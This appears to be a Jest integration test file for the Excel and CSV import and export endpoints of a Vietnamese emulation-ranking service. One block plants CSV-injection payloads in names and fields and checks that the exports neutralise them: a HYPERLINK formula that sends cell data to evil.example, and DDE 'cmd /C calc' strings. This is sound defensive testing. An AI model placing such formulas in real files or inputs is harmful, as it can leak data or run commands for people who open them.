import ExcelJS from 'exceljs';
import { Role } from '../../src/kernel/actor';
import { expectNothingAppendedSince, ok } from '../support/mutations';
import { startService, type TestService } from '../support/service';
import { CLUSTER, CRITERIA_SET, MEMBERS, openYear, registerCluster, score } from '../support/year-scenario';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

describe('Excel in and out', () => {
  let service: TestService;
  let admin: string;
  const base = () => service.url.replace('/graphql', '');
  const get = (path: string, token = admin) => fetch(`${base()}${path}`, { headers: { authorization: `Bearer ${token}` } });
  const workbook = async (response: Response) => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(await response.arrayBuffer());
    return book;
  };
  const sheetRows = (sheet: ExcelJS.Worksheet) => {
    const rows: unknown[][] = [];
    sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
    return rows;
  };

  beforeAll(async () => {
    service = await startService();
    admin = await service.token('admin-xlsx', { role: Role.ADMIN, name: 'Quản trị' });
    await registerCluster(service);
    await openYear(service, 2022, 'tan-chau', 'tri-ton');
    for (const [i, unitId] of MEMBERS.entries()) await score(service, 2022, unitId, 'CLUSTER', [30 + i, 30.25, 15]);
    await ok(service, 'draftAgreement', {
      clusterId: CLUSTER,
      year: 2022,
      theme: 'Chủ đề',
      commitments: [],
      legalBases: ['15/HD-VKSTC'],
      ceremonyDate: '2022-02-22',
      hostUnitId: 'tan-chau',
    });
    await ok(service, 'signAgreement', {
      clusterId: CLUSTER,
      year: 2022,
      unitId: 'tan-chau',
      signatoryName: 'Nguyễn Kiến Thịnh',
      signatoryPosition: 'Viện trưởng',
      signedOn: '2022-02-22',
    });
  });
  afterAll(() => service.stop());

  it('exports the ranking as .xlsx that reads back equal to the read model', async () => {
    const response = await get(`/exports/rankings/${CLUSTER}/2022.xlsx`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe(XLSX);
    expect(response.headers.get('content-disposition')).toContain('xep-hang-ag-2-2022.xlsx');
    const sheet = (await workbook(response)).getWorksheet('Xếp hạng')!;
    const rows = sheetRows(sheet);
    expect(rows[0][0]).toMatch(/Bảng xếp hạng thi đua năm 2022 – Cụm thi đua số 2/);
    expect(rows[1]).toEqual([
      'Hạng',
      'Mã đơn vị',
      'Đơn vị',
      'Tự chấm',
      'Cụm chấm',
      'Hội đồng duyệt',
      'Tổng điểm tính',
      'Nguồn điểm tính (giai đoạn: số tiêu chí)',
      'Xếp loại',
      'Tên hiện nay',
    ]);
    expect(sheet.getColumn(7).numFmt).toBe('0.00');
    const model = (
      await service.gql(`{ rankings(clusterId: "${CLUSTER}", year: 2022) { units { unitId rank effectiveTotal classification } } }`)
    ).data!.rankings.units;
    const exported = rows.slice(2).map((r) => ({ unitId: r[1], rank: r[0], effectiveTotal: r[6], classification: r[8] }));
    expect(exported).toEqual(model);
  });

  it('exports the same ranking as CSV with a BOM and two decimals', async () => {
    const response = await get(`/exports/rankings/${CLUSTER}/2022.csv`);
    expect(response.headers.get('content-type')).toContain('text/csv');
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = bytes.subarray(3).toString('utf8').trim().split('\r\n');
    expect(lines[0]).toBe(
      'Hạng,Mã đơn vị,Đơn vị,Tự chấm,Cụm chấm,Hội đồng duyệt,Tổng điểm tính,Nguồn điểm tính (giai đoạn: số tiêu chí),Xếp loại,Tên hiện nay',
    );
    expect(lines[1]).toBe(
      '1,chau-doc,Viện kiểm sát nhân dân thành phố Châu Đốc,,79.25,,79.25,Cụm chấm: 3/5,Tiên tiến,Viện kiểm sát nhân dân thành phố Châu Đốc',
    );
  });

  it("exports a unit's score sheet and the cluster-year summary", async () => {
    const sheet = (await workbook(await get(`/exports/score-sheet/${CLUSTER}/2022/tri-ton.xlsx`))).getWorksheet('Bảng điểm')!;
    const rows = sheetRows(sheet);
    expect(rows[2]).toEqual([
      'Thực hiện nhiệm vụ chuyên môn',
      'c1',
      'Chỉ tiêu nghiệp vụ theo Nghị quyết 96/2019/QH14',
      'Tiêu chí',
      40,
      undefined,
      31,
      undefined,
      31,
      'Cụm chấm',
    ]);
    const summary = await workbook(await get(`/exports/cluster-year/${CLUSTER}/2022.xlsx`));
    expect(summary.worksheets.map((w) => w.name)).toEqual([
      'Thành viên',
      'Giao ước',
      'Đăng ký danh hiệu',
      'Xếp hạng',
      'Bình xét',
      'Khen thưởng',
    ]);
    const signatures = sheetRows(summary.getWorksheet('Giao ước')!);
    expect(signatures[0][0]).toMatch(/ký ngày 22\/02\/2022/);
    expect(signatures[2].slice(0, 3)).toEqual(['Viện kiểm sát nhân dân thị xã Tân Châu', 'Nguyễn Kiến Thịnh', 'Viện trưởng']);
    expect(summary.getWorksheet('Giao ước')!.getColumn(4).numFmt).toBe('dd/mm/yyyy');
    const csv = await (await get(`/exports/cluster-year/${CLUSTER}/2022.csv`)).text();
    expect(csv).toContain('Viện kiểm sát nhân dân thị xã Tân Châu,Nguyễn Kiến Thịnh,Viện trưởng,22/02/2022');
  });

  it('refuses without a token, with a bad path, and for a year with no data', async () => {
    expect((await fetch(`${base()}/exports/rankings/${CLUSTER}/2022.xlsx`)).status).toBe(401);
    const bad = await get(`/exports/rankings/${CLUSTER}/hai-nghin.xlsx`);
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as any).errors[0].extensions.code).toBe('BAD_USER_INPUT');
    expect((await get(`/exports/rankings/${CLUSTER}/2030.csv`)).status).toBe(404);
  });

  describe('CSV exports neutralise formulas planted in names (OWASP CSV injection)', () => {
    const PLANTED = {
      signatoryName: '=HYPERLINK("http://evil.example/?d="&A1,"Xem")',
      signatoryPosition: "@SUM(1+1)*cmd|' /C calc'!A0",
      unitName: "-2+3+cmd|' /C calc'!A0",
      criterionName: '+thu thập',
      sectionName: '\tMục độc',
      theme: '=1+1',
    };
    /** RFC 4180 fields of every record, unquoted. */
    const fields = (csv: string) => {
      const out: string[] = [];
      const pattern = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/g;
      for (let m = pattern.exec(csv.replace(/^\uFEFF/, '')); m && m[0] !== ''; m = pattern.exec(csv))
        out.push(m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1]);
      return out;
    };
    const dangerous = (field: string) => /^[=+\-@\t\r]/.test(field) && !/^-\d+(\.\d+)?$/.test(field);

    beforeAll(async () => {
      await ok(service, 'registerUnit', { unitId: 'don-vi-doc', name: PLANTED.unitName, level: 'DISTRICT', parentUnitId: 'vks-an-giang' });
      await ok(service, 'publishCriteriaSet', {
        ...CRITERIA_SET,
        criteriaSetId: 'bo-doc',
        sections: [
          {
            sectionId: 'I',
            name: PLANTED.sectionName,
            criteria: [
              { criterionId: 'x1', name: PLANTED.criterionName, kind: 'STANDARD', maxPoints: 50 },
              { criterionId: 'p1', name: 'Vi phạm bị xử lý', kind: 'PENALTY', maxPoints: 10 },
            ],
          },
        ],
        thresholds: [{ classification: 'Hoàn thành', minPoints: 30, titleId: null }],
      });
      const year = { clusterId: CLUSTER, year: 2023 };
      await ok(service, 'openClusterYear', { ...year, memberUnitIds: ['tan-chau', 'don-vi-doc'] });
      await ok(service, 'rotateChair', { ...year, chairUnitId: 'don-vi-doc', viceChairUnitId: 'tan-chau' });
      await ok(service, 'adoptCriteriaSet', { ...year, criteriaSetId: 'bo-doc' });
      await ok(service, 'draftAgreement', {
        ...year,
        theme: PLANTED.theme,
        commitments: [],
        legalBases: ['15/HD-VKSTC'],
        ceremonyDate: '2023-02-22',
        hostUnitId: 'tan-chau',
      });
      const officer = await service.token('can-bo-doc', { role: Role.UNIT_OFFICER, unit: 'don-vi-doc', name: 'Cán bộ' });
      const signature = { signatoryName: PLANTED.signatoryName, signatoryPosition: PLANTED.signatoryPosition, signedOn: '2023-02-22' };
      await ok(service, 'signAgreement', { ...year, unitId: 'don-vi-doc', ...signature }, officer);
      await ok(service, 'recordScore', { ...year, unitId: 'don-vi-doc', criterionId: 'p1', stage: 'SELF', points: 10 });
      await ok(service, 'recordScore', { ...year, unitId: 'tan-chau', criterionId: 'x1', stage: 'SELF', points: 40 });
    });

    it('writes every planted text cell quoted behind a single quote; negative points stay numbers', async () => {
      const paths = [
        `/exports/cluster-year/${CLUSTER}/2023.csv`,
        `/exports/rankings/${CLUSTER}/2023.csv`,
        `/exports/score-sheet/${CLUSTER}/2023/don-vi-doc.csv`,
        `/imports/score-sheet/${CLUSTER}/2023/template.csv`,
      ];
      const csvs = await Promise.all(paths.map(async (path) => (await get(path)).text()));
      const all = csvs.flatMap(fields);
      expect(all.filter(dangerous)).toEqual([]);
      const raw = csvs.join('\n');
      expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Xem"")"`);
      expect(all).toEqual(
        expect.arrayContaining([
          `'${PLANTED.signatoryPosition}`,
          `'${PLANTED.unitName}`,
          `'${PLANTED.criterionName}`,
          `'${PLANTED.sectionName}`,
        ]),
      );
      const ranking = fields(csvs[1]);
      expect(ranking).toContain('-10.00');
      expect(csvs[1]).toMatch(/,-10\.00,/);
    });

    it('keeps the planted text as plain strings in .xlsx, never formulas', async () => {
      const sheet = (await workbook(await get(`/exports/cluster-year/${CLUSTER}/2023.xlsx`))).getWorksheet('Giao ước')!;
      const row = sheet.getRow(3);
      expect([row.getCell(2).value, row.getCell(3).value]).toEqual([PLANTED.signatoryName, PLANTED.signatoryPosition]);
      expect([row.getCell(2).type, row.getCell(3).type]).toEqual([ExcelJS.ValueType.String, ExcelJS.ValueType.String]);
    });
  });

  describe('score sheet import', () => {
    async function filledTemplate(fill: (rows: ExcelJS.Row[]) => void): Promise<Buffer> {
      const book = await workbook(await get(`/imports/score-sheet/${CLUSTER}/2022/template.xlsx`));
      const sheet = book.worksheets[0];
      const rows: ExcelJS.Row[] = [];
      sheet.eachRow((row, n) => n > 2 && rows.push(row));
      fill(rows);
      return Buffer.from(await book.xlsx.writeBuffer());
    }
    const post = (body: Buffer | string, type: string, token = admin) =>
      fetch(`${base()}/imports/score-sheet/${CLUSTER}/2022`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': type },
        body,
      });

    it('reports every bad row with its number and reason, and records nothing', async () => {
      const file = await filledTemplate((rows) => {
        rows[0].getCell(6).value = 'Tự chấm';
        rows[0].getCell(7).value = 35;
        rows[1].getCell(6).value = 'Tự chấm';
        rows[1].getCell(7).value = 55;
        rows[2].getCell(6).value = 'Hôm nay';
        rows[2].getCell(7).value = 10;
      });
      const head = await service.store.headPosition();
      const response = await post(file, XLSX);
      expect(response.status).toBe(422);
      const body = (await response.json()) as any;
      expect(body.errors[0].extensions.code).toBe('INVALID_SHEET');
      expect(body.errors[0].extensions.rows).toEqual([
        { row: 4, code: 'POINTS_OUT_OF_RANGE', reason: expect.stringContaining('từ 0 đến 40.00') },
        { row: 5, code: 'INVALID_STAGE', reason: expect.stringContaining('Hôm nay') },
      ]);
      await expectNothingAppendedSince(service, head);
    });

    it('records a valid sheet as commands with the importing officer as actor, once', async () => {
      const officer = await service.token('can-bo-tan-chau', { role: Role.UNIT_OFFICER, unit: 'tan-chau', name: 'Cán bộ Tân Châu' });
      const file = await filledTemplate((rows) => {
        for (const row of rows.filter((r) => r.getCell(1).value === 'tan-chau').slice(0, 3)) {
          row.getCell(6).value = 'Tự chấm';
          row.getCell(7).value = 12.5;
        }
      });
      const response = await post(file, XLSX, officer);
      expect(response.status).toBe(200);
      expect(await response.json()).toMatchObject({ recorded: 3, corrected: 0 });
      const history = (
        await service.gql(
          `{ scoreHistory(clusterId: "${CLUSTER}", year: 2022, unitId: "tan-chau", criterionId: "c1") { stage to actor { personId } } }`,
        )
      ).data!.scoreHistory;
      expect(history).toContainEqual({ stage: 'SELF', to: 12.5, actor: { personId: 'can-bo-tan-chau' } });
      const head = await service.store.headPosition();
      expect((await post(file, XLSX, officer)).status).toBe(422);
      await expectNothingAppendedSince(service, head);
    });

    it("refuses rows outside the officer's scope, and takes CSV with corrections that give a reason", async () => {
      const officer = await service.token('can-bo-an-phu', { role: Role.UNIT_OFFICER, unit: 'an-phu' });
      const csv =
        '\uFEFFMã đơn vị,Mã tiêu chí,Giai đoạn,Điểm,Minh chứng,Lý do sửa\r\nan-phu,c1,Tự chấm,20,,\r\ntri-ton,c1,Tự chấm,20,,\r\n';
      const refused = await post(csv, 'text/csv', officer);
      expect(((await refused.json()) as any).errors[0].extensions.rows).toEqual([
        { row: 3, code: 'FORBIDDEN', reason: expect.any(String) },
      ]);

      const chairOffice = await service.token('van-phong-tan-chau', { role: Role.CLUSTER_OFFICER, unit: 'tan-chau' });
      const corrections =
        'Mã đơn vị,Mã tiêu chí,Giai đoạn,Điểm,Minh chứng,Lý do sửa\r\ntri-ton,c1,Cụm chấm,32.5,Biên bản thẩm định,Thẩm định lại\r\ntri-ton,c2,cum cham,31,,\r\n';
      const missingReason = await post(corrections, 'text/csv', chairOffice);
      expect(((await missingReason.json()) as any).errors[0].extensions.rows).toEqual([
        { row: 3, code: 'REASON_REQUIRED', reason: expect.stringContaining('Lý do sửa') },
      ]);
      const fixed = corrections.replace('tri-ton,c2,cum cham,31,,', 'tri-ton,c2,cum cham,31,,Nhập nhầm');
      const response = await post(fixed, 'text/csv', chairOffice);
      expect(await response.json()).toMatchObject({ recorded: 0, corrected: 2 });
    });
  });
});
